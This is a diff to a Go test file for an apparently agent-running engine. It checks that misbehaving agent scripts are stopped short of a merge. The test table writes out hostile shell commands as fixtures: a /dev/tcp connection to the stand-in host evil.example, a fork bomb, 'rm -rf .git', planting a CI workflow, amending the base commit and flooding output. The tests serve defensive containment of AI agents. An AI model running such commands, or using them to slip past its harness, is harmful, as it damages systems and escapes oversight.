@@ -173,16 +173,19 @@ func TestEndsWithoutMerge(t *testing.T) {
 		rescue bool
 		change func(*engine.Options)
 	}{
-		"commits nothing":   {script: "true", state: engine.Failed, reason: "committed nothing"},
-		"wrong fix":         {script: "echo '# no' >> sum.sh", state: engine.Failed, reason: "gate has not passed", rescue: true},
-		"fails":             {script: fix + "; exit 3", state: engine.Failed, reason: "status 3", rescue: true},
-		"removes .git":      {script: "sed -i 's/-/+/' sum.sh; rm -rf .git", state: engine.Failed, reason: "repository is broken", rescue: true},
-		"plants a CI file":  {script: "mkdir -p .github/workflows; echo x > .github/workflows/x.yml; " + fix, state: engine.Refused, reason: "protected_path", rescue: true},
-		"reaches out":       {script: fix + "; exec 2>/dev/null; getent hosts evil.example; bash -c 'exec 3<>/dev/tcp/evil.example/443'; true", state: engine.Waiting, reason: "evil.example", rescue: true},
-		"is not there":      {script: "", state: engine.Refused, reason: "not-there", change: func(o *engine.Options) { o.Config.Agent = agent.Command{Args: []string{"not-there"}} }},
-		"takes too long":    {script: "trap '' TERM; sleep 300", state: engine.Failed, reason: "time limit", change: func(o *engine.Options) { o.Config.Stages[0].Time = time.Second }},
-		"is a fork bomb":    {script: "f() { f | f & }; f; sleep 2; exit 9", state: engine.Failed, reason: "stage implement"},
-		"floods its output": {script: "head -c 30000000 /dev/zero; exit 4", state: engine.Failed, reason: "status 4"},
+		"commits nothing":    {script: "true", state: engine.Failed, reason: "committed nothing"},
+		"wrong fix":          {script: "echo '# no' >> sum.sh", state: engine.Failed, reason: "gate has not passed", rescue: true},
+		"fails":              {script: fix + "; exit 3", state: engine.Failed, reason: "status 3", rescue: true},
+		"removes .git":       {script: "sed -i 's/-/+/' sum.sh; rm -rf .git", state: engine.Failed, reason: "repository is broken", rescue: true},
+		"plants a CI file":   {script: "mkdir -p .github/workflows; echo x > .github/workflows/x.yml; " + fix, state: engine.Refused, reason: "protected_path", rescue: true},
+		"reaches out":        {script: fix + "; exec 2>/dev/null; getent hosts evil.example; bash -c 'exec 3<>/dev/tcp/evil.example/443'; true", state: engine.Waiting, reason: "evil.example", rescue: true},
+		"adds too much":      {script: "head -c 20000000 /dev/urandom > big; " + fix, state: engine.Refused, reason: "bytes", rescue: true, change: func(o *engine.Options) { o.Config.Rules.MaxBytes, o.Config.Rules.MaxFileBytes = 1<<20, 1<<20 }},
+		"amends the base":    {script: "sed -i 's/-/+/' sum.sh; git add -A; git -c user.name=x -c user.email=x@y commit -q --amend -m Base", state: engine.Refused, reason: "base", rescue: true},
+		"nests a repository": {script: "git init -q inner; touch inner/x; echo '# no' >> sum.sh", state: engine.Failed, reason: "gate has not passed", rescue: true},
+		"is not there":       {script: "", state: engine.Refused, reason: "not-there", change: func(o *engine.Options) { o.Config.Agent = agent.Command{Args: []string{"not-there"}} }},
+		"takes too long":     {script: "trap '' TERM; sleep 300", state: engine.Failed, reason: "time limit", change: func(o *engine.Options) { o.Config.Stages[0].Time = time.Second }},
+		"is a fork bomb":     {script: "f() { f | f & }; f; sleep 2; exit 9", state: engine.Failed, reason: "stage implement"},
+		"floods its output":  {script: "head -c 30000000 /dev/zero; exit 4", state: engine.Failed, reason: "status 4"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			p := newProject(t, c.script)
